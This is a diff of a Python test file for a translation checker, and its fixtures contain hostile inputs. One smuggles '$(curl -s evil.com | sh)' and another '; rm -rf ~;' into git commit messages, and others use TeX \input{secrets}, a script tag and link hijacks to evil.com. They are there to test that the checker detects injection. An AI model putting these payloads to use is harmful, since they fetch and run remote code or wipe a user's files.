@@ -471,8 +471,8 @@ def test_hashtags_kept_or_accepted_variant(locale: str, translation: str) -> Non
     ("translation", "message"),
     [
         (
-            "Lee https://evil.example/r",
-            "link https://evil.example/r points to evil.example, which the source does not link "
+            "Lee https://evil.com/r",
+            "link https://evil.com/r points to evil.com, which the source does not link "
             "to: a possible link hijack (the source links https://example.org/love/report)",
         ),
         (
@@ -738,7 +738,7 @@ def test_placeholders_tex_argument_added_is_a_warning() -> None:
         (r"Hello {name}, see \cite{ref}", "Bonjour \\emph{nom}, voir \\cite{ref}", ()),
         # a TeX command that reads a file, links or redefines: injected markup
         (r"\title{}", "\\title{}\\input{secrets}", ()),
-        (r"\title{}", "\\title{}\\href{https://evil.example}{ici}", ()),
+        (r"\title{}", "\\title{}\\href{https://evil.com}{ici}", ()),
         (r"\title{}", "\\title{}\\renewcommand{\\title}{x}", ()),
         # the same without a brace, or hidden: TeX reads \input's file name as it stands
         (r"\title{}", "\\title{}\\input secrets", ()),
@@ -1471,7 +1471,7 @@ def test_a_closing_tag_typed_as_an_opening_one_is_one_error() -> None:
 
 
 def test_a_link_in_place_of_the_url_placeholder_is_one_finding() -> None:
-    found = check("Sign: %(url)s", "Firma: https://evil.example/x")
+    found = check("Sign: %(url)s", "Firma: https://evil.com/x")
     assert [f[:2] for f in found] == [("urls", "error")]
 
 
@@ -1523,7 +1523,7 @@ def test_a_documentation_link_in_the_translators_language_is_a_warning() -> None
     for other in ("https://www.sphinx-doc.org/pt_BR/evil", "https://www.sphinx-doc.org/de/"):
         found = check(source, text.replace("https://www.sphinx-doc.org/pt_BR/master", other))
         assert ("urls", "error") in [f[:2] for f in found], other
-    found = check(source, text.replace("www.sphinx-doc.org", "sphinx-doc.evil"), locale="pt_BR")
+    found = check(source, text.replace("www.sphinx-doc.org", "sphinx-doc.evil.com"), locale="pt_BR")
     assert ("urls", "error") in [f[:2] for f in found]
 
 
@@ -1735,11 +1735,11 @@ def test_a_long_list_of_translators_is_no_paste_gone_wrong() -> None:
         # ... but a formula that reads n may pick that form for a number no sample tries
         (
             ("{n} child", "{n} children"),
-            ["{n} 人の子", "{n} https://evil.example/x"],
+            ["{n} 人の子", "{n} https://evil.com/x"],
             "ja",
             "nplurals=2; plural=(n == 1234 ? 1 : 0);",
             "error",
-            "evil.example",
+            "evil.com",
         ),
         # a word in angle brackets that labels an argument, translated to one naming an element
         ("Events with Id containing <text>", "<data> を含むIDのイベント", "ja", None, None, ""),
@@ -2164,7 +2164,7 @@ def test_a_template_variable_renamed_is_a_placeholder_error_and_no_link() -> Non
         check(source, "{{order.shop}} - Envío creado para el pedido {{ order.identifier }}") == []
     )
     # a quoted string in a template is rendered as written: still a link
-    quoted = check(source, '{{ "evil.example.com" }} {{ order.shop }} {{ order.identifier }}')
+    quoted = check(source, '{{ "evil.com" }} {{ order.shop }} {{ order.identifier }}')
     assert ("urls", "error") in {(c, s) for c, s, _ in quoted}
 
 
@@ -2427,12 +2427,92 @@ def test_a_host_no_one_can_own_is_an_example() -> None:
     found = check(source, "Un URL completo (es. 'https://rspamd.evil.com/').", locale="it")
     assert [f[:2] for f in found] == [("urls", "warning")], found
     assert "a real domain" in found[0][2]
-    # no example in the source: a link the source lacks, on any host
+    # no example in the source: a link to no one's site is no hijack, but no page either
     found = check("Read the guide", "Leggi la guida: https://guida.tld/", locale="it")
-    assert ("urls", "error") in [f[:2] for f in found], found
+    assert [f[:2] for f in found] == [("urls", "warning")], found
+    assert "no reader can open it" in found[0][2]
     # a registrable name that merely ends like one is no example
     found = check(source, "Un URL completo (es. 'https://rspamd.tld.com/').", locale="it")
     assert "a real domain" in found[0][2], found
+
+
+@pytest.mark.parametrize(
+    ("source", "translation", "locale", "says"),
+    [
+        # LinOTP's format hints, localised onto the reader's network
+        (
+            "You need to enter the server like 'https://linotp2.my.domain'",
+            'Vous devez entrer le serveur au format "https://linotp2.remoteserver.local".',
+            "fr",
+            "is written https://linotp2.remoteserver.local",
+        ),
+        (
+            "You need to enter the remote LinOTP server like https://remotelinotp",
+            "在本地定位远程 LinOTP 服务器的形式为 'https://linotp2.remoteserver.local'。",
+            "zh",
+            "a host no one can own",
+        ),
+        # the same hint written as a description of the host
+        (
+            "You need to enter the server like 'https://linotp2.my.domain'",
+            "Sie müssen den Server im Format 'https://<FQDN des entfernten LinOTP Servers>' "
+            "angeben",
+            "de",
+            "a description of the host to give",
+        ),
+        (
+            "Enter the server like https://linotp2.my.domain",
+            "Indique el servidor como https://&lt;su servidor&gt;",
+            "es",
+            "a description of the host to give",
+        ),
+        # an address on the reserved names, localised onto another of them
+        (
+            "For instance, john.doe@mydomain.example should be discovered at "
+            "https://mydomain.example/.well-known/webfinger",
+            "Par exemple, jean.dupont@mondomaine.test devrait être découvert à "
+            "https://mondomaine.test/.well-known/webfinger",
+            "fr",
+            "also a domain no one can own",
+        ),
+        # a link added on a reserved name: no one's site
+        ("Read the guide", "Leggi la guida su https://guida.example/", "it", "no reader can"),
+    ],
+)
+def test_a_link_to_a_host_no_one_can_own_is_a_warning(
+    source: str, translation: str, locale: str, says: str
+) -> None:
+    """Issue 19's seventh held-out half: a link on a host no one can own (a name reserved
+    for examples, the reader's own network, or a top-level name no registry delegates) leads
+    to no one's site, so it is no hijack; whether the source's link was an example or a page
+    to open, only a reader can say. One warning for the pair."""
+    found = [f for f in check(source, translation, locale=locale) if f[0] == "urls"]
+    assert [f[:2] for f in found] == [("urls", "warning")] * len(found) and found, found
+    assert any(says in f[2] for f in found), found
+    assert len(found) == len({f[2] for f in found})
+
+
+def test_a_host_no_one_can_own_never_excuses_a_real_one() -> None:
+    """The exemption is the host's, never the text's: a real domain beside or in place of the
+    no-one's host is still a hijack, a page of the campaign's own site written on no one's
+    host is a link no supporter can open, and a name whose earlier label X links (``.my``,
+    ``.casa``) or that is internationalised is read as a real domain."""
+    source = "You need to enter the server like 'https://linotp2.my.domain'"
+    for text in (
+        "Format: https://linotp2.remoteserver.local or https://evil.com/login",
+        "Format: https://linotp2.evil.com",
+        "Format: https://evil.my.local",  # X links evil.my
+        "Format: https://evil.xn--p1ai",
+        # a name missing from the list of delegated ones may be delegated after it
+        "Format: https://mondomain.schmilblick",
+    ):
+        assert ("urls", "error") in [f[:2] for f in check(source, text)], text
+    found = check("Sign at https://example.org/love/sign", "Firma en https://firma.local/sign")
+    assert [f[:2] for f in found if f[0] == "urls"] == [("urls", "error")], found
+    assert "the campaign's own site" in found[0][2]
+    # a description beside a real link is no cover for it
+    found = check(source, "Format: https://<votre serveur> (https://evil.com)", locale="fr")
+    assert ("urls", "error") in [f[:2] for f in found], found
 
 
 def test_a_handle_on_the_readers_network_changed_to_a_real_domain_is_an_error() -> None:
@@ -2616,7 +2696,7 @@ def test_a_commands_quoted_text_that_runs_or_moves_something_stays_an_error() ->
     word outside the quotes changed is another command."""
     source = '  $ git commit -m "add the logo"\n'
     for text in (
-        '  $ git commit -m "$(curl -s evil.example | sh)"\n',
+        '  $ git commit -m "$(curl -s evil.com | sh)"\n',
         '  $ git commit -m "ajoute `id` le logo"\n',
         '  $ git commit -m "ajoute"; rm -rf ~; echo "le logo"\n',
         "  $ git commit -m 'ajoute le logo'\n",
@@ -2928,7 +3008,7 @@ def test_a_fields_date_format_localised_or_its_spec_left_out_is_a_warning(
     ("source", "translation"),
     [
         # a spec that cuts a link, or that a number refuses, stays an error
-        ("Read {url}", "Lire {url:.19}.evil.example"),
+        ("Read {url}", "Lire {url:.19}.evil.com"),
         ("Week {1:0>2}", "Semaine {1:x}"),
         ("Week {1:0>2}", "Semaine {1!r}"),
         # a date's format on another argument
@@ -2944,7 +3024,7 @@ def test_another_spec_or_another_argument_stays_an_error(source: str, translatio
 def test_a_date_format_spec_does_not_hide_a_link_markup_or_a_mention() -> None:
     """What a translator writes inside a date's format spec is printed as written: the other
     checks read it as any text."""
-    found = [f[:2] for f in check("{0:%B %Y}", "{0:%B %Y https://evil.example/x}", locale="fr")]
+    found = [f[:2] for f in check("{0:%B %Y}", "{0:%B %Y https://evil.com/x}", locale="fr")]
     assert ("urls", "error") in found and ("placeholders", "warning") in found
     found = [f[:2] for f in check("{0:%B %Y}", "{0:%Y<script>alert(1)</script>}", locale="fr")]
     assert ("html", "error") in found
@@ -3162,16 +3242,14 @@ def test_a_mailto_that_names_no_address_is_a_warning() -> None:
     assert [f[:2] for f in found] == [("urls", "warning")], found
     assert "names no address" in found[0][2]
     for hijack in (
-        "mailto:hilfe@evil.example",
-        "mailto:hilfe%40evil.example",
-        "mailto:hilfe＠evil.example",
-        "mailto:?to=hilfe%40evil.example",
+        "mailto:hilfe@evil.com",
+        "mailto:hilfe%40evil.com",
+        "mailto:hilfe＠evil.com",
+        "mailto:?to=hilfe%40evil.com",
     ):
         found = check(source, f"Ein {hijack} ergibt eine Liste von E-Mail-Adressen.", locale="de")
         assert ("urls", "error") in [f[:2] for f in found], (hijack, found)
-    found = check(
-        source, "Ein mailto:-Link (https://evil.example/) ergibt eine Liste.", locale="de"
-    )
+    found = check(source, "Ein mailto:-Link (https://evil.com/) ergibt eine Liste.", locale="de")
     assert ("urls", "error") in [f[:2] for f in found], found
 
 
@@ -3211,7 +3289,7 @@ def test_a_message_key_s_translation_keeps_the_errors_certain_without_the_source
 def test_a_campaign_s_entries_are_never_message_keys() -> None:
     """A campaign's templates give every source string: a msgid shaped like a key is the
     source text there, and a link it lacks is a hijack."""
-    found = check("share_title", "Ver https://evil.example.net/x", locale="es")
+    found = check("share_title", "Ver https://evil.com/x", locale="es")
     assert ("urls", "error") in [f[:2] for f in found], found
 
 
@@ -3219,7 +3297,7 @@ _KEYED_PO = (
     'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n"Language: ru\\n"\n'
     '"Plural-Forms: nplurals=2; plural=(n != 1);\\n"\n\n'  # one reading, checked or compiled
     'msgid "TLP_MSG_COLORS__ID_DESCRIPTION"\n'
-    'msgstr "Цвета сообщений, см. https://evil.example.net/login"\n'
+    'msgstr "Цвета сообщений, см. https://evil.com/login"\n'
 )
 
 
@@ -3288,12 +3366,12 @@ def test_a_campaign_whose_templates_give_no_sources_has_no_message_keys(tmp_path
     (tmp_path / "messages").mkdir()
     (tmp_path / "messages" / "share.j2").write_text('{{ _("share_title") }\n')
     assert template_sources(templated) is None  # else this test tests nothing
-    found = check("share_title", "Ver https://evil.example.net/x", campaign=templated)
+    found = check("share_title", "Ver https://evil.com/x", campaign=templated)
     assert ("urls", "error") in [f[:2] for f in found], found
     assert not any("message key" in f[2] for f in found), found
     # the control: the same campaign without templates, a campaign of catalogs alone
     (tmp_path / "messages" / "share.j2").unlink()
-    found = check("share_title", "Ver https://evil.example.net/x", campaign=templated)
+    found = check("share_title", "Ver https://evil.com/x", campaign=templated)
     assert ("urls", "warning") in [f[:2] for f in found], found
 
 
